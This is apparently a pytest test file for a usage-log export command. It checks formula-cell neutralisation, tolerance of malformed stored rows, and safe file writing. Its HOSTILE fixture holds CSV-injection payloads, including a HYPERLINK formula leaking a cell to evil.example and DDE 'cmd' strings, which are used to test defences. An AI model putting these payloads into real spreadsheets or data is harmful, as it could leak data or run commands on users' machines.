"""``ai-usage export`` is safe to open and never stopped by a stored row (issue 8, points 2, 5 and 6).

Rows are put in through the store itself (``SQLiteUsageStore.record``), as older data or another writer would have
left them, so nothing here depends on what ingest validation accepts today.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from models.ai_usage import AIUsageLog
from services.cli import cli
from services.cli.export_command import csv_cells, encode_json, escape_surrogates, jsonl_line, neutralise_cell
from services.errors import StoreError
from services.store.sqlite_store import SQLiteUsageStore
from services.usage_tracking_service import UsageTrackingService
from tests.factories import make_log

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = {
    "request_id": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "character_id": "+cmd|' /C calc'!A0",
    "session_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "error_message": "-1",
}


@pytest.fixture
def store(db_path: Path) -> Iterator[SQLiteUsageStore]:
    sqlite_store = SQLiteUsageStore(db_path)
    yield sqlite_store
    sqlite_store.close()


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def nested(depth: int) -> dict[str, Any]:
    value: Any = 0
    for _ in range(depth - 1):
        value = [value]
    return {"deep": value}


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# -- neutralising formula cells ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\0x", "'already quoted", " =1+1", "\n@SUM(A1)", "\u3000-2"],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "player-1", "1-2", "a=b", "0.000025000", " plain", "\uff1d1", "{}", "\u2212"])
def test_a_plain_cell_is_left_alone(value: str) -> None:
    # Full-width ＝ (U+FF1D) and the minus sign U+2212 are outside OWASP's list, deliberately (README, "Exports").
    assert neutralise_cell(value) == value


@given(st.text())
def test_neutralising_is_undone_by_dropping_one_leading_quote(value: str) -> None:
    cell = neutralise_cell(value)
    assert (cell[1:] if cell.startswith("'") else cell) == value
    stripped = cell.lstrip()
    assert not (cell[:1] in set("=+-@\t\r\0") or stripped[:1] in set("=+-@"))


def test_csv_export_neutralises_text_cells_by_default_and_not_numbers(store: SQLiteUsageStore) -> None:
    store.record([make_log(**HOSTILE, success=False)])
    (row,) = csv_rows(run("export").stdout)
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value
    assert row["tokens_input"] == "1200" and row["estimated_cost_exact"] == "0.001234567"
    assert row["success"] == "false" and row["tenant_id"] == ""


def test_raw_formulas_writes_csv_cells_as_stored(store: SQLiteUsageStore) -> None:
    store.record([make_log(**HOSTILE)])
    (row,) = csv_rows(run("export", "--raw-formulas").stdout)
    for name, value in HOSTILE.items():
        assert row[name] == value


def test_jsonl_is_data_and_keeps_every_value_exactly(store: SQLiteUsageStore) -> None:
    store.record([make_log(**HOSTILE)])
    (line,) = run("export", "--format", "jsonl").stdout.splitlines()
    body = json.loads(line)
    for name, value in HOSTILE.items():
        assert body[name] == value


# -- rows export must survive ------------------------------------------------------------------------------------------
def test_a_lone_surrogate_in_metadata_is_exported_in_both_formats_and_reads_back(store: SQLiteUsageStore) -> None:
    odd = {"note": "cut through an emoji \ud83d", "low": "\udc00"}
    store.record(
        [make_log(request_id="before"), make_log(request_id="odd", metadata=odd), make_log(request_id="after")]
    )

    jsonl = run("export", "--format", "jsonl")
    assert jsonl.exit_code == 0
    lines = jsonl.stdout_bytes.decode("utf-8").splitlines()  # strict UTF-8: nothing unencodable was written
    assert [json.loads(line)["request_id"] for line in lines] == ["before", "odd", "after"]
    assert json.loads(lines[1])["metadata"] == odd  # the JSON escape \ud83d reads back as the same string
    assert "\\ud83d" in lines[1]

    table = run("export", "--format", "csv")
    assert table.exit_code == 0
    rows = csv_rows(table.stdout_bytes.decode("utf-8"))
    assert [row["request_id"] for row in rows] == ["before", "odd", "after"]
    assert json.loads(rows[1]["metadata"]) == odd


def test_a_lone_surrogate_in_a_text_column_is_written_as_its_escape() -> None:
    # SQLite cannot hold one (Python refuses to bind it), but a row read from Appwrite's JSON can.
    log = make_log(error_message="bad \udc80 text", user_id="p\ud800")
    cells = dict(zip(AIUsageLog.model_fields, csv_cells(log), strict=True))
    assert cells["error_message"] == "bad \\udc80 text" and cells["user_id"] == "p\\ud800"
    body = json.loads(jsonl_line(log))
    assert body["error_message"] == "bad \udc80 text" and body["user_id"] == "p\ud800"


@pytest.mark.parametrize("depth", [256, 600])
def test_metadata_nested_past_pydantics_limit_is_exported_in_both_formats(store: SQLiteUsageStore, depth: int) -> None:
    deep = nested(depth)
    store.record([make_log(request_id="deep", metadata=deep), make_log(request_id="after")])
    jsonl = run("export", "--format", "jsonl")
    assert jsonl.exit_code == 0
    lines = jsonl.stdout.splitlines()
    assert json.loads(lines[0])["metadata"] == deep and json.loads(lines[1])["request_id"] == "after"
    rows = csv_rows(run("export", "--format", "csv").stdout)
    assert json.loads(rows[0]["metadata"]) == deep and rows[1]["request_id"] == "after"


def test_encode_json_never_fails_on_depth_or_non_finite_numbers() -> None:
    depth = 5000  # past the C encoder's (and the decoder's) recursion limit: only the iterative encoder gets here
    assert encode_json(nested(depth)) == '{"deep":' + "[" * (depth - 1) + "0" + "]" * (depth - 1) + "}"
    assert encode_json({"a": float("nan"), "b": float("inf"), "c": -float("inf"), "d": 1.5}) == (
        '{"a":"NaN","b":"Infinity","c":"-Infinity","d":1.5}'
    )
    assert encode_json({"k": [None, True, "\ud800", {"x": 1}]}) == '{"k":[null,true,"\\ud800",{"x":1}]}'


def test_escape_surrogates_touches_nothing_else() -> None:
    assert escape_surrogates("plain \u00e9 \U0001f409 \\u0041") == "plain \u00e9 \U0001f409 \\u0041"
    assert escape_surrogates("a\ud800b\udfff") == "a\\ud800b\\udfff"


def test_jsonl_keeps_the_field_order_and_round_trips(store: SQLiteUsageStore) -> None:
    log = make_log(metadata={"quest": "q-17", "tags": ["a", "b"]}, error_message=',"timestamp":"x"')
    assert list(json.loads(jsonl_line(log))) == list(AIUsageLog.model_fields)
    assert AIUsageLog.model_validate_json(jsonl_line(log)) == log


# -- where the export goes -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("output", [".", "{tmp}", "{tmp}/", "{tmp}/new-dir/"])
def test_output_naming_a_directory_exits_2_and_writes_nothing(
    store: SQLiteUsageStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, output: str
) -> None:
    store.record([make_log()])
    monkeypatch.chdir(tmp_path)
    before = sorted(tmp_path.iterdir())
    result = run("export", "--output", output.format(tmp=tmp_path))
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.startswith("error: invalid input\n  output: ") and "is a directory" in result.stderr
    assert sorted(tmp_path.iterdir()) == before


def test_an_export_file_is_created_0600_and_replaces_an_existing_one_whole(
    store: SQLiteUsageStore, tmp_path: Path
) -> None:
    store.record([make_log(request_id="r1")])
    old_umask = os.umask(0o022)
    try:
        fresh = tmp_path / "fresh.csv"
        assert run("export", "--output", str(fresh)).exit_code == 0
        existing = tmp_path / "existing.jsonl"
        existing.write_text("old content that is much longer than the export\n" * 100)
        existing.chmod(0o644)
        assert run("export", "--format", "jsonl", "--output", str(existing)).exit_code == 0
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600 and csv_rows(fresh.read_text())[0]["request_id"] == "r1"
    assert stat.S_IMODE(existing.stat().st_mode) == 0o600
    assert [json.loads(line)["request_id"] for line in existing.read_text().splitlines()] == ["r1"]
    assert sorted(p.name for p in tmp_path.iterdir() if "partial" in p.name) == []


def _failing_after(rows: int, error: BaseException):  # type: ignore[no-untyped-def]
    original = UsageTrackingService.iter_events

    def iter_events(self: UsageTrackingService, *args: Any, **kwargs: Any) -> Iterator[AIUsageLog]:
        for index, log in enumerate(original(self, *args, **kwargs)):
            if index == rows:
                raise error
            yield log

    return iter_events


@pytest.mark.parametrize(
    ("error", "message"),
    [(KeyboardInterrupt(), "Aborted!"), (StoreError("the SQLite store could not answer"), "could not answer")],
)
def test_a_failed_export_leaves_no_partial_file_and_the_old_file_untouched(
    store: SQLiteUsageStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: BaseException, message: str
) -> None:
    store.record([make_log() for _ in range(30)])
    monkeypatch.setattr(UsageTrackingService, "iter_events", _failing_after(20, error))
    target = tmp_path / "events.csv"
    target.write_text("yesterday's export\n")
    result = run("export", "--output", str(target), "--page-size", "10")
    assert result.exit_code == 1 and message in result.stderr
    assert target.read_text() == "yesterday's export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_a_full_disk_is_an_error_and_leaves_no_partial_file(db_path: Path, tmp_path: Path) -> None:
    # A real write failure: the child may write at most 64 KiB per file (EFBIG, as ENOSPC would be), far less
    # than the export, and its database is already complete so reading it writes nothing.
    seeding = SQLiteUsageStore(db_path)
    try:
        seeding.record([make_log(metadata={"pad": "x" * 200}) for _ in range(600)])
    finally:
        seeding.close()  # checkpoints the WAL: the child's reads then write nothing to the database
    target = tmp_path / "out" / "events.jsonl"
    target.parent.mkdir()

    def limit_file_size() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of being killed
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))

    child = subprocess.run(
        [
            sys.executable,
            "-c",
            "from services.cli import main; main()",
            "export",
            "--format",
            "jsonl",
            "-o",
            str(target),
        ],
        cwd=ROOT,
        env={**os.environ, "AI_USAGE_DB_PATH": str(db_path)},
        preexec_fn=limit_file_size,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert child.returncode == 1, child.stderr
    assert child.stderr.startswith(f"error: cannot write {target}: File too large; nothing was written")
    assert "Traceback" not in child.stderr
    assert list(target.parent.iterdir()) == []


def test_a_pipe_is_written_directly_and_stays_a_pipe(store: SQLiteUsageStore, tmp_path: Path) -> None:
    # Renaming a temporary file over a FIFO (or /dev/stdout) would replace the node instead of writing to it.
    store.record([make_log(request_id="r1")])
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader is there, so opening for writing never blocks
    try:
        assert run("export", "--format", "jsonl", "--output", str(fifo)).exit_code == 0
        data = os.read(reader, 1 << 16)
    finally:
        os.close(reader)
    assert json.loads(data)["request_id"] == "r1"
    assert stat.S_ISFIFO(fifo.stat().st_mode)
